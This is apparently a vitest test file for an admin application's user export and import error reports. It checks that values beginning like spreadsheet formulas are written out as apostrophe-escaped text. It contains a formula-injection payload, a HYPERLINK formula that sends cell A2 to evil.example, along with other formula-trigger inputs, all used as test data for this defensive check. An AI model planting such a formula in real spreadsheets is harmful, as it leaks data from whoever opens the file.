import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { openErrorReportFile } from '../src/modules/title-import/title-import-report';
import { signedInRequests, testAppSuite } from './helpers/app-suite';
import { createOrganisation, provincialAdmin, type Session } from './helpers/factories';

const s = testAppSuite();
let admin: Session;
let employerId: string;
const api = signedInRequests(() => s.t);
beforeAll(async () => {
  admin = await provincialAdmin(s.t);
  employerId = (await createOrganisation(s.t.database.db, { name: '鞍山恒信通信工程有限公司' })).id;
});

async function sheetValues(
  bytes: Buffer | Uint8Array,
): Promise<{ type: ExcelJS.ValueType; value: unknown }[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: { type: ExcelJS.ValueType; value: unknown }[] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    row.eachCell((cell) => {
      cells.push({ type: cell.type, value: cell.value });
    });
  });
  return cells;
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")';

describe('a formula typed into a form comes out of every export as text', () => {
  it('the users export: a display name that starts like a formula is written with an apostrophe', async () => {
    const created = await api.post(admin, '/api/v1/admin/users', {
      username: 'formula',
      displayName: HYPERLINK,
      password: 'Passw0rd123',
      roles: ['employer'],
      organisationId: employerId,
      jurisdictionCode: '210302',
    });
    expect(created.statusCode, created.body).toBe(201);
    const exported = await api.get(admin, '/api/v1/admin/users/export');
    expect(exported.statusCode).toBe(200);
    const cells = await sheetValues(exported.rawPayload);
    expect(cells).toContainEqual({ type: ExcelJS.ValueType.String, value: `'${HYPERLINK}` });
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.some((c) => c.value === HYPERLINK)).toBe(false);
  });

  it('the import error report the CLI writes, as .xlsx and as .csv', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'zhiping-report-'));
    try {
      for (const name of ['errors.xlsx', 'errors.csv']) {
        const report = openErrorReportFile(path.join(dir, name));
        report.add({ row: 2, column: '@列', message: '-1+1' });
        report.add({ row: 3, column: '姓名', message: '请填写姓名' });
        await report.close();
      }
      const cells = await sheetValues(fs.readFileSync(path.join(dir, 'errors.xlsx')));
      expect(cells.map((c) => c.value)).toEqual([
        '行号',
        '列',
        '问题',
        2,
        "'@列",
        "'-1+1",
        3,
        '姓名',
        '请填写姓名',
      ]);
      expect(fs.readFileSync(path.join(dir, 'errors.csv'), 'utf8').split('\r\n').slice(1, 3)).toEqual([
        "2,'@列,'-1+1",
        '3,姓名,请填写姓名',
      ]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
